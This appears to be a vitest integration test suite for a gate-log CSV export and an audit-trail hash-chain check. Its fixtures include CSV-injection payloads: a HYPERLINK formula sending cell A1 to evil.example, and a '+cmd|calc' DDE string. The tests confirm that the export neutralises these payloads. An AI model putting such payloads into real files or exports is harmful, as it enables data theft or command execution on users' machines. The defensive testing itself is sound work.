// The gate log export and the audit trail export's chain statement, against the real MariaDB and
// the built server: the CSV parsed back with the tests' own reader and compared with gate_checks
// row by row, with each filter; formula payloads in badges and names neutralised (OWASP "CSV
// Injection": a cell starting with = + - @ tab or CR gets a leading apostrophe); the export's audit
// event with its filter and exact row count; the last row's statement (gate log: not chained;
// audit trail: verified up to seq N, or broken at seq M after a row is tampered with through the
// owner connection, restored afterwards); and who may fetch what.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pool } from '../../src/lib/server/db';
import { recordAuditNow } from '../../src/lib/server/audit';
import { checkStationAccess } from '../../src/lib/server/gate';
import { ROLES } from '../../src/lib/roles';
import { localDate } from '../../src/lib/time';
import {
	appDb,
	closeDbHelpers,
	createTestPerson,
	demoPersonId,
	ownerDb,
	queryRows,
	retireTestPeople,
	type TestPerson
} from '../helpers/db';
import { insertCertificate, makeProcess, makeStation } from '../helpers/training-fixtures';
import { insertTestRule } from '../helpers/certificate-fixtures';
import { parseCsv } from '../helpers/csv-parse';
import { newClient, signInAsDemo, type HttpClient } from '../helpers/http-session';

const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open me")';
const EVIL_BADGES = ['@SUM(1+1)', '-2+3', '+cmd|calc'];
const FORMULA = /^[=+\-@\t\r]/;

let quality: HttpClient;
let hr: HttpClient;
let qualified: TestPerson;
let unqualified: TestPerson;
let evil: TestPerson;
let station: { id: number; code: string };
let otherStation: { id: number; code: string };

/** The response's bytes as text, keeping the BOM, then the table without it. */
async function csvOf(res: Response) {
	const bytes = new Uint8Array(await res.arrayBuffer());
	expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	const table = parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1));
	const [header, ...rest] = table;
	const trailer = rest.pop()!;
	return { table, header, rows: rest, trailer, col: (n: string) => header.indexOf(n) };
}

async function gate(badge: string, code: string) {
	const answer = await checkStationAccess({ station: code, badge, source: 'kiosk' });
	expect(answer.logId).toBeTruthy();
	return answer;
}

type GateRow = {
	id: number;
	at: Date;
	badge: string;
	person_id: number | null;
	decision: string;
	reasons: unknown;
};

async function gateRows(where: string, params: unknown[]) {
	const rows = await queryRows<GateRow>(
		appDb(),
		`SELECT g.id, g.at, g.badge, g.person_id, g.decision, g.reasons FROM gate_checks g
		 LEFT JOIN people p ON p.id = g.person_id WHERE ${where} ORDER BY g.id DESC`,
		params
	);
	return rows.map((r) => ({
		...r,
		reasons: (typeof r.reasons === 'string' ? JSON.parse(r.reasons) : r.reasons) as {
			code: string;
			process?: string;
		}[]
	}));
}

const neutral = (v: string) => (FORMULA.test(v) ? `'${v}` : v);

beforeAll(async () => {
	const proc = await makeProcess();
	station = await makeStation([proc.id]);
	otherStation = await makeStation([proc.id]);
	qualified = await createTestPerson({ roles: ['operator'], withEmail: false, line: 'L1' });
	unqualified = await createTestPerson({ roles: ['operator'], withEmail: false, line: 'L1' });
	evil = await createTestPerson({ roles: ['operator'], withEmail: false, displayName: EVIL_NAME });
	const ruleId = await insertTestRule(proc.id, qualified.id);
	await insertCertificate(qualified.id, proc.id, ruleId, {});

	expect((await gate(qualified.badge!, station.code)).decision).toBe('allow');
	expect((await gate(qualified.badge!, station.code)).decision).toBe('allow');
	expect((await gate(unqualified.badge!, station.code)).decision).toBe('deny');
	expect((await gate(evil.badge!, station.code)).decision).toBe('deny');
	for (const b of EVIL_BADGES) expect((await gate(b, station.code)).decision).toBe('deny');
	expect((await gate(qualified.badge!, otherStation.code)).decision).toBe('allow');

	quality = await signInAsDemo('quality');
	hr = await signInAsDemo('hr');
});

afterAll(async () => {
	await retireTestPeople();
	await closeDbHelpers();
	await pool.end();
});

async function latestEvent(action: string, actorId: number) {
	const [row] = await queryRows<{ seq: number; new_values: unknown }>(
		appDb(),
		'SELECT seq, new_values FROM audit_events WHERE action = ? AND actor_id = ? ORDER BY seq DESC LIMIT 1',
		[action, actorId]
	);
	return {
		seq: row.seq,
		values: (typeof row.new_values === 'string'
			? JSON.parse(row.new_values)
			: row.new_values) as Record<string, unknown>
	};
}

describe('gate log CSV', () => {
	it('equals gate_checks row by row for a station, neutralises formulas and is audited', async () => {
		const res = await quality.get(`/records/logs/gate-log.csv?station=${station.code}`, {
			headers: { accept: '*/*' }
		});
		expect(res.status).toBe(200);
		expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(res.headers.get('content-disposition')).toMatch(
			/^attachment; filename="gate-log-\d{4}-\d{2}-\d{2}\.csv"$/
		);
		const csv = await csvOf(res);
		expect(csv.header).toEqual([
			'id',
			'at_utc',
			'at_local',
			'time_zone',
			'station',
			'line',
			'badge',
			'person_id',
			'employee_no',
			'person',
			'decision',
			'reason_codes',
			'reasons',
			'warning_codes',
			'warnings',
			'source',
			'api_key',
			'latency_ms'
		]);
		const db = await gateRows('g.station_code = ?', [station.code]);
		expect(db).toHaveLength(4 + EVIL_BADGES.length);
		expect(csv.rows).toHaveLength(db.length);
		const c = csv.col;
		csv.rows.forEach((r, i) => {
			const d = db[i];
			expect(r[c('id')]).toBe(String(d.id));
			expect(r[c('at_utc')]).toBe(new Date(d.at).toISOString());
			expect(r[c('station')]).toBe(station.code);
			expect(r[c('line')]).toBe('L1');
			expect(r[c('badge')]).toBe(neutral(d.badge));
			expect(r[c('person_id')]).toBe(d.person_id == null ? '' : String(d.person_id));
			expect(r[c('decision')]).toBe(d.decision);
			expect(r[c('reason_codes')]).toBe(
				d.reasons.map((x) => (x.process ? `${x.process}:${x.code}` : x.code)).join('; ')
			);
			expect(r[c('time_zone')]).toBe('Asia/Ho_Chi_Minh');
			expect(r[c('source')]).toBe('kiosk');
		});
		// What the fixtures did, by hand: two allows for the certified person, then denies.
		expect(csv.rows.filter((r) => r[c('decision')] === 'allow')).toHaveLength(2);
		const unknown = csv.rows.filter((r) => r[c('reason_codes')] === 'unknown_badge');
		expect(unknown.map((r) => r[c('badge')]).sort()).toEqual(
			EVIL_BADGES.map((b) => `'${b}`).sort()
		);
		const evilRow = csv.rows.find((r) => r[c('person_id')] === String(evil.id))!;
		expect(evilRow[c('person')]).toBe(`'${EVIL_NAME}`);
		expect(evilRow[c('reasons')]).toMatch(/: no certificate$/);
		for (const r of csv.table) for (const cell of r) expect(cell).not.toMatch(FORMULA);

		const qualityId = await demoPersonId('quality@kbo2.example');
		const event = await latestEvent('gate_log.export', qualityId);
		expect(event.values).toMatchObject({
			format: 'csv',
			filter: { station: station.code },
			rows: db.length,
			upToId: db[0].id
		});

		// The last row says what the file is and that the gate log is not chained.
		const t = csv.trailer;
		expect(t).toHaveLength(csv.header.length);
		expect(t[c('id')]).toBe('');
		expect(t[c('decision')]).toBe('export_statement');
		expect(t[c('reasons')]).toContain(
			`Gate log export: ${db.length} decision rows above this line`
		);
		expect(t[c('reasons')]).toContain(`recorded in the audit trail as seq ${event.seq}`);
		expect(t[c('reasons')]).toContain('The gate log is not hash-chained');
	});

	it('applies each filter: decision, person or badge, line and period', async () => {
		const get = async (query: string) => {
			const res = await hr.get(`/records/logs/gate-log.csv?${query}`, {
				headers: { accept: '*/*' }
			});
			expect(res.status, query).toBe(200);
			return csvOf(res);
		};
		const deny = await get(`station=${station.code}&decision=deny`);
		expect(deny.rows.map((r) => r[deny.col('id')])).toEqual(
			(await gateRows("g.station_code = ? AND g.decision = 'deny'", [station.code])).map((r) =>
				String(r.id)
			)
		);
		expect(deny.rows).toHaveLength(2 + EVIL_BADGES.length);

		// A badge as scanned, an employee number, and part of a name all find the person.
		const byBadge = await get(`person=${encodeURIComponent(qualified.badge!)}`);
		const expected = (await gateRows('g.badge = ?', [qualified.badge])).map((r) => String(r.id));
		expect(expected).toHaveLength(3);
		expect(byBadge.rows.map((r) => r[byBadge.col('id')])).toEqual(expected);
		const byNumber = await get(`person=${encodeURIComponent(qualified.employeeNo)}`);
		expect(byNumber.rows.map((r) => r[byNumber.col('id')])).toEqual(expected);
		const byName = await get(`person=${encodeURIComponent('evil.example/?x=')}`);
		expect(byName.rows.map((r) => r[byName.col('person_id')])).toEqual([String(evil.id)]);

		// Both test stations are on L1: the line filter keeps them, L2 has none of their rows.
		const onL1 = await get(`line=L1&person=${encodeURIComponent(qualified.badge!)}`);
		expect(onL1.rows).toHaveLength(3);
		const onL2 = await get(`line=L2&person=${encodeURIComponent(qualified.badge!)}`);
		expect(onL2.rows).toHaveLength(0);
		expect(onL2.trailer[onL2.col('reasons')]).toContain('Gate log export: 0 decision rows');

		const today = localDate(new Date(), 'Asia/Ho_Chi_Minh');
		const now = await get(`from=${today}&to=${today}&station=${otherStation.code}`);
		expect(now.rows).toHaveLength(1);
		const past = await get(`from=2020-01-01&to=2020-01-31&station=${otherStation.code}`);
		expect(past.rows).toHaveLength(0);

		const hrId = await demoPersonId('hr@kbo2.example');
		const event = await latestEvent('gate_log.export', hrId);
		expect(event.values).toMatchObject({
			filter: {
				from: '2020-01-01',
				to: '2020-01-31',
				station: otherStation.code,
				timeZone: 'Asia/Ho_Chi_Minh'
			},
			rows: 0
		});
	});

	it('answers a bad filter with 400 and the field', async () => {
		const bad = await quality.get('/records/logs/gate-log.csv?from=2026-13-40', {
			headers: { accept: '*/*' }
		});
		expect(bad.status).toBe(400);
		expect((await bad.json()).fields.from).toBeTruthy();
		const line = await quality.get('/records/logs/gate-log.csv?line=NOPE', {
			headers: { accept: '*/*' }
		});
		expect(line.status).toBe(400);
		expect((await line.json()).fields.line).toBe('No line NOPE.');
	});

	it('shows the filtered decisions on the page', async () => {
		const res = await hr.get(`/records/logs?station=${station.code}&decision=allow`);
		expect(res.status).toBe(200);
		const html = await res.text();
		expect(html).toContain('2 decisions match the filter');
		expect(html).toContain(qualified.badge!);
		expect(html).not.toContain(unqualified.badge!);
	});

	it('is for quality and hr only', async () => {
		const url = `/records/logs/gate-log.csv?station=${otherStation.code}`;
		for (const role of ROLES) {
			const client = await signInAsDemo(role);
			const res = await client.get(url, { headers: { accept: '*/*' } });
			await res.body?.cancel();
			expect(res.status, role).toBe(role === 'hr' || role === 'quality' ? 200 : 403);
		}
		const anonymous = await newClient().get(url);
		expect(anonymous.status).toBe(303);
		expect(anonymous.headers.get('location')).toBe(`/signin?redirectTo=${encodeURIComponent(url)}`);
	});
});

describe('audit trail export states the chain verification', () => {
	const actor = { id: null, label: 'records-logs test', address: null };

	async function exportAudit(query: string) {
		const res = await quality.get(`/audit/export.csv?${query}`, { headers: { accept: '*/*' } });
		expect(res.status).toBe(200);
		return csvOf(res);
	}

	it('ends with the verified chain head', async () => {
		await recordAuditNow(actor, { action: 'test.chain', entityType: 'chain_test' });
		const csv = await exportAudit('entityType=chain_test');
		expect(csv.rows.length).toBeGreaterThanOrEqual(1);
		const t = csv.trailer;
		const c = csv.col;
		expect(t).toHaveLength(csv.header.length);
		expect(t[c('seq')]).toBe('');
		expect(t[c('action')]).toBe('audit.chain_verification');
		expect(t[c('reason')]).toMatch(/^Audit chain verified up to seq \d+: all \d+ rows from seq 1/);
		const v = JSON.parse(t[c('new_values')]);
		expect(v).toMatchObject({
			result: 'verified',
			brokenAtSeq: null,
			problemCount: 0,
			exportedRows: csv.rows.length
		});
		expect(v.verifiedUpToSeq).toBe(v.headSeq);
		expect(v.checkedRows).toBe(v.headSeq);
		expect(v.headSeq).toBeGreaterThanOrEqual(v.exportSeq);
		expect(Number(csv.rows[0][c('seq')])).toBe(v.exportedUpToSeq);
		// The hash in the last row is the stored hash of the head row it names.
		const [head] = await queryRows<{ hash: string }>(
			appDb(),
			'SELECT hash FROM audit_events WHERE seq = ?',
			[v.headSeq]
		);
		expect(t[c('hash')]).toBe(head.hash);
		expect(t[c('reason')]).toContain(`the export itself is seq ${v.exportSeq}`);
	});

	it('says broken at the tampered seq, and the page says so too', async () => {
		const seq = await recordAuditNow(actor, {
			action: 'test.chain',
			entityType: 'chain_test',
			reason: 'the original reason'
		});
		await recordAuditNow(actor, { action: 'test.chain', entityType: 'chain_test' });
		try {
			await ownerDb().query('UPDATE audit_events SET reason = ? WHERE seq = ?', [
				'a quietly changed reason',
				seq
			]);
			const csv = await exportAudit('entityType=chain_test');
			const t = csv.trailer;
			expect(t[csv.col('reason')]).toMatch(
				new RegExp(`^Audit chain BROKEN at seq ${seq} \\(content changed after it was written\\)`)
			);
			expect(t[csv.col('reason')]).toContain(`only rows up to seq ${seq - 1} verify`);
			const v = JSON.parse(t[csv.col('new_values')]);
			expect(v).toMatchObject({
				result: 'broken',
				brokenAtSeq: seq,
				verifiedUpToSeq: seq - 1,
				problems: [{ seq, problem: 'content changed after it was written' }]
			});
			expect(t[csv.col('hash')]).toBe('');
			// The export's check is recorded, so the page states the broken chain without re-reading it.
			const page = await (await quality.get('/records/logs')).text();
			expect(page).toContain(`Chain broken at seq ${seq}`);
		} finally {
			await ownerDb().query('UPDATE audit_events SET reason = ? WHERE seq = ?', [
				'the original reason',
				seq
			]);
		}
		const verify = await quality.postForm('/records/logs?/verify', {});
		expect(verify.status).toBe(200);
		const page = await (await hr.get('/records/logs')).text();
		expect(page).toMatch(/Chain verified up to seq \d+/);
		expect(page).not.toContain('Chain broken');
	});
});
